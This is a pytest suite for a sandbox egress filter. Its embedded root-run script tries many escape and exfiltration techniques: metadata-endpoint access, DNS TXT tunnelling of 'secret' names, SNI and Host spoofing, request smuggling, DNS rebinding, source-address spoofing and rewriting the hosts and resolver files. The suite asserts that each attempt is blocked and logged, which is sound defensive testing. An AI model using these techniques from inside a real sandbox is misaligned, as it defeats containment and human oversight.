"""EGR-01 to EGR-15 from inside real sandboxes: each bypass is really tried by root in there. None succeeds, each is seen."""

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from lab.network import ALLOWED, OTHER, THIRD, Box, Lab, until  # isort: skip
from lab.hellos import client_hello, sni  # isort: skip

ATTACKS = r"""
import json, os, socket, ssl, struct, subprocess, sys
told = json.loads(sys.argv[1])
allowed, other, metadata = told["allowed"], told["other"], "169.254.169.254"
done = {}

def attack(name):
    def run(work):
        try:
            done[name] = "GOT " + repr(work())[:80]
        except Exception as error:
            done[name] = type(error).__name__
    return run

def tcp(address, port, data=b"GET / HTTP/1.0\r\n\r\n", family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect((address, port))
        sock.sendall(data)
        got = sock.recv(100)
        if not got or got.startswith(b"\x15\x03"):  # a TLS alert is how the broker says no
            raise ConnectionResetError
        return got

def udp(address, port, data=b"x" * 40):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(data, (address, port))
        return sock.recv(100)

def tls(address, sni):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((address, 443), 5) as plain, context.wrap_socket(plain, server_hostname=sni) as secure:
        secure.sendall(b"x")
        return secure.recv(100)

def http(address, host, connect=None, target="/", method="GET"):
    line = f"CONNECT {connect} HTTP/1.1" if connect else f"{method} {target} HTTP/1.1"
    got = tcp(address, 80, f"{line}\r\nHost: {host}\r\n\r\n".encode())
    if b" 200 " not in got.split(b"\r\n")[0] + b" ":
        raise ConnectionRefusedError
    return got

def answers(name, server, kind=1):
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(query, (server, 53))
        count = struct.unpack("!6H", sock.recv(2000)[:12])[3]
    if not count:
        raise LookupError
    return count

def second_request(host):
    with socket.create_connection((allowed, 80), 20) as sock:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")
        sock.recv(1000)
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        got = sock.recv(1000)
        if b" 200 " not in got:
            raise ConnectionResetError
        return got

socket.getaddrinfo("a.example", 443)  # from here on its address is open to us
attack("baseline tls")(lambda: tls(allowed, "a.example"))
attack("baseline http")(lambda: http(allowed, "a.example"))
narrow = socket.gethostbyname("narrow.example")
attack("baseline rule")(lambda: http(narrow, "narrow.example", target="/simple/x"))
attack("method outside a rule")(lambda: http(narrow, "narrow.example", target="/simple/x", method="DELETE"))
attack("path outside a rule")(lambda: http(narrow, "narrow.example", target="/simple/../upload"))
attack("raw address")(lambda: tcp(other, 443))
attack("raw address, odd port")(lambda: tcp(other, 8443))
attack("other port of an allowed host")(lambda: tcp(allowed, 5432))
attack("metadata")(lambda: tcp(metadata, 80))
attack("sni of another host")(lambda: tls(allowed, "b.example"))
attack("no sni")(lambda: tls(allowed, None))
attack("host header of another host")(lambda: http(allowed, "b.example"))
attack("connect through an allowed host")(lambda: http(allowed, "a.example", "b.example:443"))
attack("no protocol we know")(lambda: tcp(allowed, 443, b"SSH-2.0-x\r\n"))
attack("udp, as quic does")(lambda: udp(allowed, 443))
attack("udp elsewhere")(lambda: udp(other, 9999))
attack("dns by another server")(lambda: answers("b.example", other))
attack("dns txt tunnel")(lambda: answers("secret-data.b.example", "100.96.0.1", 16))
attack("name under an allowed one")(lambda: answers("secret.a.example", "100.96.0.1"))
attack("the gateway's own ports")(lambda: tcp(told["gateway"], 22))
attack("the broker's port, directly")(lambda: tcp(told["gateway"], 1))
attack("the other sandbox")(lambda: tcp(told["neighbour"], 8000))
attack("the machine's address")(lambda: tcp("192.0.2.1", told["service"]))
attack("encrypted hello")(lambda: tcp(allowed, 443, bytes.fromhex(told["ech"])))
attack("target and host disagree")(lambda: http(allowed, "a.example", target="http://b.example/"))
attack("a request behind another")(lambda: second_request("b.example"))
attack("a name that leads inside")(lambda: tcp(socket.gethostbyname("rebind.example"), 80))
attack("NUL in a name")(lambda: answers("evil\0.a.example", "100.96.0.1"))
attack("data in a long name")(lambda: answers("x" * 60 + "." + "y" * 60 + "." + "z" * 60 + ".w.example", "100.96.0.1"))
attack("ipv6")(lambda: tcp("2001:db8::1", 443, family=socket.AF_INET6))
attack("ipv4 in ipv6")(lambda: tcp("::ffff:" + other, 443, family=socket.AF_INET6))
attack("raw socket")(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(b"x" * 40, (other, 0)))
attack("packet socket")(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attack("vsock")(lambda: socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM))

def reconfigure():
    # Root inside may well own its interface. What it does there must not matter outside.
    ip = next((path for path in ("/usr/sbin/ip", "/sbin/ip", "/usr/bin/ip") if os.path.exists(path)), None)
    if ip is None:
        raise FileNotFoundError
    for words in (f"addr add {told['neighbour']}/30 dev eth0", "addr add 203.0.113.77/24 dev eth0", "link set eth0 promisc on",
                  f"route add {other}/32 dev eth0", "-6 addr add fd00::2/64 dev eth0"):
        subprocess.run([ip, *words.split()], capture_output=True)
    sock = socket.socket()
    sock.settimeout(3)
    sock.bind((told["neighbour"], 0))
    sock.connect((told["neighbours_host"], 80))
    return sock.getpeername()

attack("another's source address")(reconfigure)
open("/etc/resolv.conf", "w").write("nameserver 203.0.113.53\n")
attack("resolver of its own")(lambda: answers("c.example", "203.0.113.53"))
attack("proxy variables")(lambda: tcp("203.0.113.53", 3128))
attack("hosts file")(lambda: (open("/etc/hosts", "a").write(f"\n{other} a.example\n"), tls(other, "a.example")))
print(json.dumps(done))
"""

# What a refusal looks like in the log: name, address, port, and a part of the reason; None is anything. Attacks that are not
# here end inside, in the sandbox's own kernel or filter: raw, packet and vsock sockets, IPv6, another source address.
Shown = tuple[str | None, str | None, int | None, str]


def logged(told: dict[str, Any]) -> dict[str, Shown]:
    return {
        "raw address": ("", OTHER, 443, "raw addresses"),
        "raw address, odd port": ("", OTHER, 8443, "raw addresses"),
        "other port of an allowed host": ("a.example", ALLOWED, 5432, "port 5432 is not open"),
        "metadata": ("", "169.254.169.254", 80, "raw addresses"),
        "sni of another host": ("b.example", ALLOWED, 443, "not an allowed host"),
        "no sni": ("a.example", ALLOWED, 443, "no server name"),
        "host header of another host": ("b.example", ALLOWED, 80, "not an allowed host"),
        "connect through an allowed host": (None, ALLOWED, 80, "CONNECT is not served"),
        "no protocol we know": ("a.example", ALLOWED, 443, "not TLS"),
        "udp, as quic does": (None, ALLOWED, 443, "udp is not passed"),
        "udp elsewhere": ("", OTHER, 9999, "udp is not passed"),
        "dns by another server": ("b.example", "", 0, "not an allowed host"),
        "dns txt tunnel": ("secret-data.b.example", "", 0, "not an allowed host"),
        "name under an allowed one": ("secret.a.example", "", 0, "not an allowed host"),
        "the gateway's own ports": ("", told["gateway"], 22, "raw addresses"),
        "the broker's port, directly": ("", told["gateway"], 1, "raw addresses"),
        "the other sandbox": ("", told["neighbour"], 8000, "raw addresses"),
        "the machine's address": ("", "192.0.2.1", told["service"], "raw addresses"),
        "encrypted hello": ("a.example", ALLOWED, 443, "encrypted ClientHello"),
        "target and host disagree": ("a.example", ALLOWED, 80, "disagree"),
        "a request behind another": ("b.example", ALLOWED, 80, "not an allowed host"),
        "a name that leads inside": ("rebind.example", "10.11.12.13", 0, "private"),
        "NUL in a name": (None, "", 0, "not a host name"),
        "data in a long name": (None, "", 0, "too long for a wildcard"),
        "resolver of its own": ("c.example", "", 0, "not an allowed host"),
        "method outside a rule": ("narrow.example", THIRD, 80, "DELETE /simple/x is not among"),
        "path outside a rule": ("narrow.example", THIRD, 80, "GET /simple/../upload is not among"),
        "proxy variables": ("", "203.0.113.53", 3128, "raw addresses"),
    }


def is_logged(events: list[dict[str, Any]], shown: Shown) -> bool:
    name, address, port, reason = shown
    return any(
        name in (None, event["name"])
        and address in (None, event["address"])
        and port in (None, event["port"])
        and reason in event["reason"]
        and event["note"].startswith("blocked: ")
        for event in events
    )


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    made = Lab()
    made.start()
    yield made
    made.close()


@pytest.fixture(params=["container", "gvisor"])
def make(request: pytest.FixtureRequest, lab: Lab) -> Iterator[Callable[..., Box]]:
    if not lab.works(request.param):
        pytest.skip(f"{request.param} does not work here")
    made: list[Box] = []

    def create(**fields: Any) -> Box:
        box = lab.create(runtime=request.param, **fields)
        made.append(box)
        return box

    yield create
    for box in made:
        box.destroy()


def address(box: Box) -> str:
    code = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('203.0.113.1', 9)); print(s.getsockname()[0])"
    return str(box.run(code)["stdout"].strip())


def gateway(of: str) -> str:
    head, _, last = of.rpartition(".")
    return f"{head}.{int(last) - 1}"


def test_no_bypass_succeeds_from_inside(make: Callable[..., Box], lab: Lab) -> None:
    """Try every bypass as root inside: only the two allowed ways answer, nothing else was dialled, refusals are logged."""
    lab.inet.records.update({"rebind.example": ["10.11.12.13", "127.0.0.1"], "narrow.example": [THIRD]})
    allowed = ["a.example", "rebind.example", "*.w.example", "GET http://narrow.example/simple/"]
    attacker, neighbour = make(hosts=allowed), make(hosts=["b.example"])
    neighbour.background("cd /tmp && exec python3 -m http.server 8000")
    until(lambda: neighbour.exec("exec 3<>/dev/tcp/127.0.0.1/8000")["exit_code"] == 0, "the neighbour listens")
    with lab.listener() as service:
        ours, theirs = address(attacker), address(neighbour)
        assert ours != theirs
        told = {
            "allowed": ALLOWED,
            "other": OTHER,
            "neighbour": theirs,
            "neighbours_host": OTHER,
            "gateway": gateway(ours),
            "service": service.getsockname()[1],
            "ech": client_hello(sni(b"a.example"), (0xFE0D, bytes(40))).hex(),
        }
        queries, dialled = len(lab.inet.queries), len(lab.inet.dialled)
        ran = attacker.run(ATTACKS, args=[json.dumps(told)], timeout_ms=300_000)
        assert ran["exit_code"] == 0, ran
        done = json.loads(ran["stdout"])
    assert all(done.pop(f"baseline {way}").startswith("GOT") for way in ("tls", "http", "rule")), done
    assert {name: what for name, what in done.items() if what.startswith("GOT")} == {}
    assert {there for there, _ in lab.inet.dialled[dialled:]} <= {ALLOWED, THIRD}
    assert {line for line, host in lab.inet.requests if host == "narrow.example"} == {"GET /simple/x HTTP/1.1"}
    assert {port for _, port in lab.inet.dialled[dialled:]} <= {80, 443}
    assert not any("secret" in name or "b.example" in name for name in lab.inet.queries[queries:])
    assert lab.inet.udp_seen == [] or not any(there in (OTHER, ALLOWED) for there, _ in lab.inet.udp_seen)
    assert set(logged(told)) <= set(done), "every attack that should be logged was tried"

    def missing() -> list[str]:
        events = lab.blocked(attacker)
        return [name for name, shown in logged(told).items() if not is_logged(events, shown)]

    try:
        until(lambda: not missing(), "every refusal is logged")
    except AssertionError:
        raise AssertionError(f"not logged: {missing()} of {lab.blocked(attacker)}") from None


def test_a_flood_starves_nobody(make: Callable[..., Box], lab: Lab) -> None:
    """Let one sandbox open a thousand connections and send garbage; its neighbour's request is still answered."""
    noisy, quiet = make(hosts=["a.example"]), make(hosts=["b.example"])
    code = f"""
import os, socket
socket.getaddrinfo("a.example", 443)
held = []
for number in range(1000):
    try:
        sock = socket.create_connection(("{ALLOWED}", 443 if number % 2 else 80), 5)
        sock.sendall(os.urandom(64) if number % 3 else b"GET / HT")
        held.append(sock)
    except OSError:
        pass
for number in range(300):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
            query.sendto(os.urandom(60), ("100.96.0.1", 53))
    except OSError:
        pass
print("held", flush=True)
input()
"""
    body = {"code": code, "language": "python", "background": True, "stdin_stream": True, "timeout_ms": 0}
    command = lab.post(f"{noisy.path}/run", body)["command_id"]
    until(lambda: "held" in noisy.command(command)["stdout"], "the flood is up")
    ran = quiet.run(
        "import urllib.request as u; print(u.urlopen('http://b.example/', timeout=50).read().decode())",
        timeout_ms=60_000,
    )
    assert ran["stdout"].strip() == "hello from b.example", ran
    assert lab.get("/v1/egress")["works"] is True


def test_a_list_changed_in_traffic_is_never_wider(make: Callable[..., Box], lab: Lab) -> None:
    """Swap the list again and again under an attacker: a host that is in none of the lists is never reached."""
    box = make(hosts=["a.example"])
    code = f"""
import socket, time
end, got = time.monotonic() + 4, 0
while time.monotonic() < end:
    for where in ("c.example", "{THIRD}"):
        try:
            socket.create_connection((where, 80), 5).close()
            got += 1
        except OSError:
            pass
print("reached", got)
"""
    command = lab.post(f"{box.path}/run", {"code": code, "language": "python", "background": True})["command_id"]
    before = lab.dialled(THIRD)
    while box.command(command)["status"] == "running":
        for wanted in (["a.example"], ["b.example"], [], ["deep.a.example", "b.example:8443"]):
            lab.post(f"{box.path}/hosts", {"hosts": wanted})
    assert box.ended(command)["stdout"].split() == ["reached", "0"] and lab.dialled(THIRD) == before
